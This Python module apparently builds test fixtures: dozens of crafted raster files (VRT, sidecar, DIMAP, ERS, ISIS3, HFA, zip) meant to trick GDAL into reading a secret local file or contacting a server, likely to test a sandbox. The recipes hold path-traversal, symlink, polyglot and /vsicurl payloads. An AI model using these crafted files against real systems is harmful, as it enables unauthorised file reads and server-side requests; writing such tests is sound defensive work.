"""Files of strangers that try to lead GDAL to a secret file or to a server: one folder for each.

`write` makes them all. Each recipe is given its own folder, in which it puts what an archive of a stranger would hold,
and returns the file that the victim opens.
"""

from __future__ import annotations

import contextlib
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

import numpy as np
from osgeo import gdal

#: Pixels of the secret, and of the harmless images beside hostile side-cars.
SECRET, HARMLESS, SIDE = 201, 7, 64

Recipe = Callable[[Path, str, str], Path | str]
RECIPES: dict[str, Recipe] = {}


def write(folder: Path, secret: Path, url: str) -> dict[str, Path | str]:
    """Write all hostile files below a folder; `secret` lies two folders above each of them.

    Parameters
    ----------
    folder : path
        A new folder next to the secret.
    secret : path
        A raster, or anything else that nobody may open.
    url : str
        Of a server that nobody may ask, ``http://host:port/name.tif``.

    Returns
    -------
    dict of str to path or str
        Name of the trick, and the file to open.
    """
    made = {}
    for name, recipe in RECIPES.items():
        own = folder / name
        own.mkdir(parents=True)
        try:
            made[name] = recipe(own, str(secret), url)
        except NoDriver:
            continue
    return made


class NoDriver(Exception):
    """This GDAL cannot write such a file."""


def raster(path: Path, value: int = HARMLESS, driver: str = "GTiff", **more: object) -> Path:
    """Write an image of one value."""
    if gdal.GetDriverByName(driver) is None:
        raise NoDriver(driver)
    made = gdal.GetDriverByName("MEM").Create("", SIDE, SIDE, 1)
    made.GetRasterBand(1).Fill(value)
    gdal.GetDriverByName(driver).CreateCopy(str(path), made, **more)
    return path


def vrt(
    path: Path, body: str, head: str = f'<VRTDataset rasterXSize="{SIDE}" rasterYSize="{SIDE}">', band: str = ""
) -> Path:
    """Write a VRT of one band."""
    path.write_text(f'{head}<VRTRasterBand dataType="Byte" band="1"{band}>{body}</VRTRasterBand></VRTDataset>')
    return path


def source(
    name: str, *, relative: int = 0, kind: str = "SimpleSource", tag: str = "SourceFilename", more: str = ""
) -> str:
    """Return a source of a VRT."""
    return f'<{kind}><{tag} relativeToVRT="{relative}">{escape(name)}</{tag}><SourceBand>1</SourceBand>{more}</{kind}>'


def wms(path: Path, url: str) -> Path:
    """Write a description of a map server, whatever its name says."""
    path.write_text(
        f"<GDAL_WMS><Service name='TMS'><ServerUrl>{url}/${{z}}/${{x}}/${{y}}</ServerUrl></Service><DataWindow>"
        f"<UpperLeftX>0</UpperLeftX><UpperLeftY>64</UpperLeftY><LowerRightX>64</LowerRightX><LowerRightY>0</LowerRightY>"
        f"<SizeX>{SIDE}</SizeX><SizeY>{SIDE}</SizeY><TileLevel>0</TileLevel></DataWindow><BandsCount>1</BandsCount>"
        f"<BlockSizeX>64</BlockSizeX><BlockSizeY>64</BlockSizeY></GDAL_WMS>"
    )
    return path


def _up(secret: str) -> str:
    return f"../../{Path(secret).name}"


def _recipe(name: str) -> Callable[[Recipe], Recipe]:
    def keep(function: Recipe) -> Recipe:
        RECIPES[name] = function
        return function

    return keep


# -- VRT -------------------------------------------------------------------------------------------------------------


def _of_vrt(name: str, body: Callable[[str, str], str], **more: str) -> None:
    RECIPES[f"vrt-{name}"] = lambda folder, secret, url: vrt(folder / "a.vrt", body(secret, url), **more)


_of_vrt("absolute", lambda s, u: source(s))
_of_vrt("parent", lambda s, u: source(_up(s), relative=1))
_of_vrt("dots", lambda s, u: source(f"./x/../{_up(s)}", relative=1))
for _tag in ("sourcefilename", "SOURCEFILENAME", "sourceFileName"):
    _of_vrt(f"tag-{_tag}", lambda s, u, tag=_tag: source(s, tag=tag))
_of_vrt("tag-url", lambda s, u: source(f"/vsicurl/{u}", tag="sourcefilename"))
_of_vrt("source-lower", lambda s, u: source(s, kind="simplesource", tag="sourcefilename"))
_of_vrt("attribute", lambda s, u: f'<SimpleSource SourceFilename="{s}"><SourceBand>1</SourceBand></SimpleSource>')
_of_vrt(
    "relative-element",
    lambda s, u: (
        f"<SimpleSource><SourceFilename>{_up(s)}<relativeToVRT>1</relativeToVRT></SourceFilename></SimpleSource>"
    ),
)
_of_vrt("cdata", lambda s, u: f"<SimpleSource><SourceFilename><![CDATA[{s}]]></SourceFilename></SimpleSource>")
_of_vrt(
    "entity", lambda s, u: f"<SimpleSource><SourceFilename>{s.replace('/', '&#47;')}</SourceFilename></SimpleSource>"
)
for _kind in ("ComplexSource", "AveragedSource", "KernelFilteredSource"):
    _of_vrt(
        _kind, lambda s, u, kind=_kind: source(s, kind=kind, more="<Kernel><Size>1</Size><Coefs>1</Coefs></Kernel>")
    )
_of_vrt("overview", lambda s, u: f"<Overview>{source(s, kind='x')[3:-4]}</Overview>")
_of_vrt("url", lambda s, u: source(f"/vsicurl/{u}"))
_of_vrt("url-streaming", lambda s, u: source(f"/vsicurl_streaming/{u}"))
_of_vrt("url-options", lambda s, u: source(f"/vsicurl?url={u}"))
_of_vrt("url-in-zip", lambda s, u: source(f"/vsizip//vsicurl/{u}/a.tif"))
_of_vrt("url-plain", lambda s, u: source(u))
_of_vrt("subfile", lambda s, u: source(f"/vsisubfile/0_100000,{s}"))
_of_vrt("gtiff-dir", lambda s, u: source(f"GTIFF_DIR:1:{s}"))
_of_vrt("derived", lambda s, u: source(f"DERIVED_SUBDATASET:AMPLITUDE:{s}"))
_of_vrt("connection", lambda s, u: source(f"vrt://{s}"))
_of_vrt(
    "inline-wms", lambda s, u: source(f"<GDAL_WMS><Service name='TMS'><ServerUrl>{u}</ServerUrl></Service></GDAL_WMS>")
)
_of_vrt(
    "inline-vrt",
    lambda s, u: source(
        f'<VRTDataset rasterXSize="{SIDE}" rasterYSize="{SIDE}"><VRTRasterBand dataType="Byte" band="1">{source(s)}'
        "</VRTRasterBand></VRTDataset>"
    ),
)
_RAW = "<ImageOffset>300</ImageOffset><PixelOffset>1</PixelOffset><LineOffset>64</LineOffset>"
_of_vrt(
    "raw", lambda s, u: f"<SourceFilename relativeToVRT='0'>{s}</SourceFilename>{_RAW}",
    band=' subClass="VRTRawRasterBand"',
)  # fmt: skip
_of_vrt(
    "raw-lower", lambda s, u: f"<sourcefilename relativetovrt='0'>{s}</sourcefilename>{_RAW}",
    band=' subclass="vrtrawrasterband"',
)  # fmt: skip
_of_vrt(
    "pixel-function", lambda s, u: f"<pixelfunctiontype>sum</pixelfunctiontype>{source(s)}",
    band=' subclass="VRTDerivedRasterBand"',
)  # fmt: skip
_of_vrt("open-options", lambda s, u: source(s, more='<OpenOptions><OOI key="NUM_THREADS">1</OOI></OpenOptions>'))
_of_vrt("namespace", lambda s, u: source(s), head=f'<VRTDataset xmlns="x" rasterXSize="{SIDE}" rasterYSize="{SIDE}">')
_of_vrt(
    "encoding", lambda s, u: source(s),
    head=f'<?xml version="1.0" encoding="UTF-7"?><VRTDataset rasterXSize="{SIDE}" rasterYSize="{SIDE}">',
)  # fmt: skip
_of_vrt("two-roots", lambda s, u: source(s), head=f'<a/><VRTDataset rasterXSize="{SIDE}" rasterYSize="{SIDE}">')
_of_vrt(
    "comment", lambda s, u: source(s), head=f'<!-- {"x" * 50} --><VRTDataset rasterXSize="{SIDE}" rasterYSize="{SIDE}">'
)


@_recipe("vrt-mask")
def _vrt_mask(folder: Path, secret: str, url: str) -> Path:
    raster(folder / "a.tif")
    mask = f'</VRTRasterBand><MaskBand><VRTRasterBand dataType="Byte">{source(secret)}</VRTRasterBand></MaskBand>'
    path = folder / "a.vrt"
    vrt(path, source("a.tif", relative=1) + mask)
    path.write_text(path.read_text().replace("</MaskBand></VRTRasterBand>", "</MaskBand>"))
    return path


@_recipe("vrt-metadata-overviews")
def _vrt_overviews(folder: Path, secret: str, url: str) -> Path:
    raster(folder / "a.tif")
    head = (
        f'<VRTDataset rasterXSize="{SIDE}" rasterYSize="{SIDE}"><Metadata domain="overviews"><MDI key="OVERVIEW_FILE">'
        f"{secret}</MDI></Metadata>"
    )
    return vrt(folder / "a.vrt", source("a.tif", relative=1), head)


def _warped(name: str, attribute: str, tag: str = "SourceDataset", place: str = "file") -> None:
    def recipe(folder: Path, secret: str, url: str) -> Path:
        image = gdal.Open(str(raster(folder / "a.tif")), gdal.GA_Update)
        image.SetGeoTransform((10.0, 1.0, 0.0, 60.0, 0.0, -1.0))
        image = None
        view = gdal.Warp("", str(folder / "a.tif"), format="VRT", srcSRS="EPSG:32633", dstSRS="EPSG:32633")
        path = folder / "a.vrt"
        view.GetDriver().CreateCopy(str(path), view)
        text = view.GetMetadata("xml:VRT")[0]
        text = text.replace(str(folder / "a.tif"), secret if place == "file" else f"/vsicurl/{url}")
        text = text.replace('relativeToVRT="1"', 'relativeToVRT="0"').replace(' shared="1"', "")
        path.write_text(text.replace('subClass="VRTWarpedDataset"', attribute).replace("SourceDataset", tag))
        return path

    RECIPES[f"vrt-warped-{name}"] = recipe


_warped("plain", 'subClass="VRTWarpedDataset"')
_warped("lower", 'subclass="VRTWarpedDataset"')
_warped("upper", 'SUBCLASS="vrtwarpeddataset"', "sourcedataset")
_warped("url", 'subclass="VRTWarpedDataset"', "sourcedataset", "url")


@_recipe("vrt-pansharpened")
def _pansharpened(folder: Path, secret: str, url: str) -> Path:
    path = folder / "a.vrt"
    band = "<{0}><SourceFilename relativeToVRT='0'>" + secret + "</SourceFilename><SourceBand>1</SourceBand></{0}>"
    spectral = band.format("SpectralBand").replace("<SpectralBand>", '<SpectralBand dstBand="1">')
    options = f"<PansharpeningOptions>{band.format('PanchroBand')}{spectral}</PansharpeningOptions>"
    path.write_text(f'<VRTDataset subclass="vrtpansharpeneddataset">{options}</VRTDataset>')
    return path


def _with_source(name: str, make: Callable[[Path, str, str], str]) -> None:
    def recipe(folder: Path, secret: str, url: str) -> Path:
        return vrt(folder / "a.vrt", source(make(folder, secret, url), relative=1))

    RECIPES[f"source-{name}"] = recipe


def _name(path: Path) -> str:
    return path.name


_with_source("wms", lambda folder, secret, url: _name(wms(folder / "b.tif", url)))
_with_source(
    "vrt-in-tif", lambda folder, secret, url: _name(vrt(folder / "b.tif", source(secret, tag="sourcefilename")))
)
_with_source(
    "vrt-after-text",
    lambda folder, secret, url: _name(
        vrt(folder / "b.dat", source(secret), "\n\n  <VRTDataset rasterXSize='64' rasterYSize='64'>")
    ),
)


@_recipe("source-link")
def _link(folder: Path, secret: str, url: str) -> Path:
    (folder / "b.tif").symlink_to(secret)
    return vrt(folder / "a.vrt", source("b.tif", relative=1))


@_recipe("source-link-folder")
def _link_folder(folder: Path, secret: str, url: str) -> Path:
    (folder / "sub").symlink_to(Path(secret).parent)
    return vrt(folder / "a.vrt", source(f"sub/{Path(secret).name}", relative=1))


@_recipe("source-mask")
def _source_mask(folder: Path, secret: str, url: str) -> Path:
    raster(folder / "b.tif")
    vrt(folder / "b.tif.msk", source(secret))
    return vrt(
        folder / "a.vrt", source("b.tif", relative=1, kind="ComplexSource", more="<UseMaskBand>true</UseMaskBand>")
    )


@_recipe("source-overview-tag")
def _source_overview(folder: Path, secret: str, url: str) -> Path:
    _tagged(folder / "b.tif", secret)
    return vrt(folder / "a.vrt", source("b.tif", relative=1))


@_recipe("source-polyglot-jpeg")
def _jpeg(folder: Path, secret: str, url: str) -> Path:
    raster(folder / "b.jpg", driver="JPEG")
    data = (folder / "b.jpg").read_bytes()
    text = vrt(folder / "c", source(secret)).read_bytes()
    comment = b"\xff\xfe" + (len(text) + 3).to_bytes(2, "big") + text + b"\0"
    (folder / "b.jpg").write_bytes(data[:2] + comment + data[2:])
    return vrt(folder / "a.vrt", source("b.jpg", relative=1))


# -- side-cars -------------------------------------------------------------------------------------------------------

_OVERVIEWS = "OVERVIEWS"


def _side_car(name: str, make: Callable[[Path, str, str], object], image: str = "a.tif", driver: str = "GTiff") -> None:
    def recipe(folder: Path, secret: str, url: str) -> Path:
        path = raster(folder / image, driver=driver)
        make(path, secret, url)
        return path

    RECIPES[f"side-{name}"] = recipe


def _beside(path: Path, ending: str) -> Path:
    return path.with_name(path.name + ending)


def _pam(name: str, domain: str = _OVERVIEWS) -> str:
    return (
        f'<PAMDataset><Metadata domain="{domain}"><MDI key="OVERVIEW_FILE">{escape(name)}</MDI></Metadata></PAMDataset>'
    )


for _ending in (".msk", ".ovr"):
    _side_car(f"vrt{_ending}", lambda p, s, u, e=_ending: vrt(_beside(p, e), source(s)))
    _side_car(f"vrt-url{_ending}", lambda p, s, u, e=_ending: vrt(_beside(p, e), source(f"/vsicurl/{u}")))
    _side_car(f"wms{_ending}", lambda p, s, u, e=_ending: wms(_beside(p, e), u))
    _side_car(f"link{_ending}", lambda p, s, u, e=_ending: _beside(p, e).symlink_to(s))
_side_car("msk-of-ovr", lambda p, s, u: (raster(_beside(p, ".ovr")), vrt(_beside(p, ".ovr.msk"), source(s))))
_side_car("ovr-of-msk", lambda p, s, u: (raster(_beside(p, ".msk")), vrt(_beside(p, ".msk.ovr"), source(s))))
_side_car("aux-link", lambda p, s, u: p.with_suffix(".aux").symlink_to(s))
_side_car(
    "aux-polyglot",
    lambda p, s, u: p.with_suffix(".aux").write_text("EHFA_HEADER_TAG" + vrt(p.with_name("x"), source(s)).read_text()),
)
_side_car("pam-absolute", lambda p, s, u: _beside(p, ".aux.xml").write_text(_pam(s)))
_side_car(
    "pam-lower",
    lambda p, s, u: _beside(p, ".aux.xml").write_text(
        _pam(s, "overviews")
        .replace("OVERVIEW_FILE", "overview_file")
        .replace("Metadata", "metadata")
        .replace("MDI", "mdi")
    ),
)
_side_car("pam-base", lambda p, s, u: _beside(p, ".aux.xml").write_text(_pam(":::BASE:::" + _up(s))))
_side_car("pam-url", lambda p, s, u: _beside(p, ".aux.xml").write_text(_pam(f"/vsicurl/{u}")))
_side_car("pam-vrt", lambda p, s, u: _beside(p, ".aux.xml").write_text(_pam(str(vrt(p.with_name("o.tif"), source(s))))))
_side_car(
    "pam-inline-wms", lambda p, s, u: _beside(p, ".aux.xml").write_text(_pam(wms(p.with_name("o"), u).read_text()))
)
_side_car("pam-link", lambda p, s, u: _beside(p, ".aux.xml").symlink_to(s))
for _image, _driver in (
    ("a.png", "PNG"),
    ("a.jpg", "JPEG"),
    ("a.img", "HFA"),
    ("a.jp2", "JP2OpenJPEG"),
    ("a.ntf", "NITF"),
    ("a.bmp", "BMP"),
    ("a.dat", "ENVI"),
):
    _side_car(f"{_driver}.ovr", lambda p, s, u: vrt(_beside(p, ".ovr"), source(s)), _image, _driver)
_side_car("r-set", lambda p, s, u: vrt(p.with_suffix(".r1"), source(s)), "a.r0", "NITF")


def _tagged(path: Path, name: str) -> Path:
    """Write an image whose own tags name its overviews."""
    made = gdal.GetDriverByName("GTiff").Create(str(path), SIDE, SIDE, 1)
    made.GetRasterBand(1).Fill(HARMLESS)
    made.SetMetadata({"OVERVIEW_FILE": name}, _OVERVIEWS)
    made = None
    return path


RECIPES["tag-overview"] = lambda folder, secret, url: _tagged(folder / "a.tif", secret)
RECIPES["tag-overview-url"] = lambda folder, secret, url: _tagged(folder / "a.tif", f"/vsicurl/{url}")


# -- headers of products ---------------------------------------------------------------------------------------------

DIMAP = """<?xml version="1.0" encoding="ISO-8859-1"?>
<Dimap_Document name="a"><Metadata_Id><METADATA_FORMAT version="1.1">DIMAP</METADATA_FORMAT></Metadata_Id>
<Raster_Dimensions><NCOLS>64</NCOLS><NROWS>64</NROWS><NBANDS>1</NBANDS></Raster_Dimensions>
<Raster_Encoding><NBITS>8</NBITS></Raster_Encoding>
<Data_Access><Data_File>{}</Data_File></Data_Access></Dimap_Document>
"""
DIMAP2_VOLUME = """<?xml version="1.0"?><Dimap_Document><Metadata_Identification><METADATA_FORMAT version="2.0">DIMAP
</METADATA_FORMAT></Metadata_Identification><Dataset_Content><Dataset_Components><Component><COMPONENT_TYPE>DIMAP
</COMPONENT_TYPE><COMPONENT_PATH href="{}"/></Component></Dataset_Components></Dataset_Content></Dimap_Document>
"""


def _of_dimap(name: str, element: Callable[[Path, str, str], str], image: str = "METADATA.DIM") -> None:
    def recipe(folder: Path, secret: str, url: str) -> Path:
        (folder / image).write_text(DIMAP.format(element(folder, secret, url)))
        return folder / image

    RECIPES[f"dimap-{name}"] = recipe


_of_dimap("absolute", lambda f, s, u: f'<DATA_FILE_PATH href="{s}"/>')
_of_dimap("parent", lambda f, s, u: f'<DATA_FILE_PATH href="{_up(s)}"/>')
_of_dimap("url", lambda f, s, u: f'<DATA_FILE_PATH href="/vsicurl/{u}"/>')
_of_dimap("lower", lambda f, s, u: f'<data_file_path HREF="{_up(s)}"/>')
_of_dimap("element", lambda f, s, u: f"<DATA_FILE_PATH><href>{_up(s)}</href></DATA_FILE_PATH>")
_of_dimap("wms", lambda f, s, u: f'<DATA_FILE_PATH href="{wms(f / "b.tif", u).name}"/>')
_of_dimap("vrt", lambda f, s, u: f'<DATA_FILE_PATH href="{vrt(f / "b.tif", source(s)).name}"/>')
_of_dimap("dim", lambda f, s, u: f'<DATA_FILE_PATH href="{_up(s)}"/>', "product.xml")


@_recipe("dimap-link")
def _dimap_link(folder: Path, secret: str, url: str) -> Path:
    (folder / "b.tif").symlink_to(secret)
    (folder / "METADATA.DIM").write_text(DIMAP.format('<DATA_FILE_PATH href="b.tif"/>'))
    return folder / "METADATA.DIM"


@_recipe("dimap-folder")
def _dimap_folder(folder: Path, secret: str, url: str) -> Path:
    (folder / "METADATA.DIM").write_text(DIMAP.format(f'<DATA_FILE_PATH href="{_up(secret)}"/>'))
    return folder


@_recipe("dimap-volume")
def _dimap_volume(folder: Path, secret: str, url: str) -> Path:
    (folder / "VOL_PHR.XML").write_text(DIMAP2_VOLUME.format(_up(secret)))
    return folder / "VOL_PHR.XML"


ERS = """DatasetHeader Begin
\tVersion = "6.0"
\tDataSetType = {kind}
\tDataType = Raster
\tByteOrder = LSBFirst
\t{field}
\tRasterInfo Begin
\t\tCellType = Unsigned8BitInteger
\t\tNrOfLines = 64
\t\tNrOfCellsPerLine = 64
\t\tNrOfBands = 1
\tRasterInfo End
DatasetHeader End
"""


def _of_ers(name: str, make: Callable[[Path, str, str], str], kind: str = "ERStorage") -> None:
    def recipe(folder: Path, secret: str, url: str) -> Path:
        (folder / "a.ers").write_text(ERS.format(kind=kind, field=make(folder, secret, url)))
        return folder / "a.ers"

    RECIPES[f"ers-{name}"] = recipe


_of_ers("absolute", lambda f, s, u: f'DataFile = "{s}"')
_of_ers("parent", lambda f, s, u: f'DataFile = "{_up(s)}"')
_of_ers("lower", lambda f, s, u: f"datafile={_up(s)}")
_of_ers("url", lambda f, s, u: f'DataFile = "/vsicurl/{u}"', "Translated")
_of_ers("wms", lambda f, s, u: f'DataFile = "{wms(f / "b.tif", u).name}"', "Translated")
_of_ers("vrt", lambda f, s, u: f'DataFile = "{vrt(f / "b.tif", source(s)).name}"', "translated")
_of_ers("translated", lambda f, s, u: f'DataFile = "{_up(s)}"', "Translated")
_of_ers("link", lambda f, s, u: (f / "a").symlink_to(s) or "")

ISIS3 = """Object = IsisCube
  Object = Core
    ^Core = {core}
    StartByte = 1
    Format = {kind}
    Group = Dimensions
      Samples = 64
      Lines = 64
      Bands = 1
    End_Group
    Group = Pixels
      Type = UnsignedByte
      ByteOrder = Lsb
      Base = 0.0
      Multiplier = 1.0
    End_Group
  End_Object
End_Object
End
"""


def _of_isis3(name: str, make: Callable[[Path, str, str], str], kind: str = "BandSequential") -> None:
    def recipe(folder: Path, secret: str, url: str) -> Path:
        text = ISIS3.format(core=make(folder, secret, url), kind=kind)
        (folder / "a.lbl").write_text(text.replace("^Core", "^CORE") if name == "upper" else text)
        return folder / "a.lbl"

    RECIPES[f"isis3-{name}"] = recipe


_of_isis3("absolute", lambda f, s, u: s)
_of_isis3("quoted", lambda f, s, u: f'"{s}"')
_of_isis3("parent", lambda f, s, u: _up(s))
_of_isis3("upper", lambda f, s, u: _up(s))
_of_isis3("url", lambda f, s, u: f'"/vsicurl/{u}"', "GeoTIFF")
_of_isis3("geotiff", lambda f, s, u: _up(s), "GeoTIFF")
_of_isis3("wms", lambda f, s, u: wms(f / "b.tif", u).name, "GeoTIFF")
_of_isis3("vrt", lambda f, s, u: vrt(f / "b.tif", source(s)).name, "GeoTIFF")


_of_isis3("apostrophes", lambda f, s, u: f"'{_up(s)}'")


@_recipe("source-link-spaces")
def _link_spaces(folder: Path, secret: str, url: str) -> Path:
    raster(folder / "b.tif")
    (folder / "b.tif ").symlink_to(secret)
    return vrt(folder / "a.vrt", source("b.tif ", relative=1))


_of_dimap("backslashes", lambda f, s, u: f'<DATA_FILE_PATH href="{_up(s)}"/>'.replace("../", "..\\"))

# -- binary headers --------------------------------------------------------------------------------------------------


def _patched(path: Path, old: str, new: str) -> None:
    data = path.read_bytes()
    assert old.encode() in data, old
    path.write_bytes(data.replace(old.encode(), new.encode().ljust(len(old), b"\0")))


@_recipe("hfa-spill")
def _hfa_spill(folder: Path, secret: str, url: str) -> Path:
    name = "n" * len(_up(secret))
    raster(folder / f"{name}.img", driver="HFA", options=["USE_SPILL=YES"])
    _patched(folder / f"{name}.img", f"{name}.ige", _up(secret))
    return folder / f"{name}.img"


@_recipe("hfa-overviews")
def _hfa_overviews(folder: Path, secret: str, url: str) -> Path:
    name = "n" * len(_up(secret))
    path = raster(folder / f"{name}.img", driver="HFA")
    gdal.SetConfigOption("HFA_USE_RRD", "YES")
    made = gdal.Open(str(path), gdal.GA_Update)
    made.BuildOverviews("NEAREST", [2])
    made = None
    gdal.SetConfigOption("HFA_USE_RRD", None)
    text = path.read_bytes()
    if f"{name}.rrd".encode() in text:
        _patched(path, f"{name}.rrd", _up(secret))
    return path


@_recipe("pcidsk-link")
def _pcidsk(folder: Path, secret: str, url: str) -> Path:
    path = raster(folder / "a.pix", driver="PCIDSK", options=["INTERLEAVING=FILE"])
    data = bytearray(path.read_bytes())
    header = (int(data[336:352]) - 1) * 512
    data[header + 64 : header + 128] = _up(secret).encode().ljust(64)
    path.write_bytes(data)
    return path


# -- archives --------------------------------------------------------------------------------------------------------


def _in_zip(name: str, make: Callable[[Path, str, str], str]) -> None:
    def recipe(folder: Path, secret: str, url: str) -> str:
        inside = folder / "inside"
        inside.mkdir()
        image = make(inside, secret, url)
        with zipfile.ZipFile(folder / "a.zip", "w") as archive:
            for file in sorted(inside.iterdir()):
                archive.write(file, f"p/{file.name}")
                file.unlink()
        return f"/vsizip/{folder / 'a.zip'}/p/{image}"

    RECIPES[f"zip-{name}"] = recipe


_in_zip("mask", lambda f, s, u: (vrt(_beside(raster(f / "a.tif"), ".msk"), source(s)), "a.tif")[1])
_in_zip("overviews", lambda f, s, u: (_beside(raster(f / "a.tif"), ".aux.xml").write_text(_pam(s)), "a.tif")[1])
_in_zip(
    "overviews-url",
    lambda f, s, u: (_beside(raster(f / "a.tif"), ".aux.xml").write_text(_pam(f"/vsicurl/{u}")), "a.tif")[1],
)
_in_zip(
    "dimap",
    lambda f, s, u: ((f / "METADATA.DIM").write_text(DIMAP.format(f'<DATA_FILE_PATH href="{s}"/>')), "METADATA.DIM")[1],
)
_in_zip(
    "dimap-parent",
    lambda f, s, u: (
        (f / "METADATA.DIM").write_text(DIMAP.format(f'<DATA_FILE_PATH href="{"../" * 20}{s[1:]}"/>')),
        "METADATA.DIM",
    )[1],
)


def pixels(dataset: gdal.Dataset) -> np.ndarray:
    """Return all values that a raster shows: pixels, masks and overviews with theirs."""
    values = []
    for number in range(1, dataset.RasterCount + 1):
        band = dataset.GetRasterBand(number)
        for level in [band, *(band.GetOverview(k) for k in range(band.GetOverviewCount()))]:
            for one in (level, level.GetMaskBand()):
                with contextlib.suppress(RuntimeError):
                    values.append(one.ReadAsArray().ravel())
    return np.concatenate(values) if values else np.zeros(0)
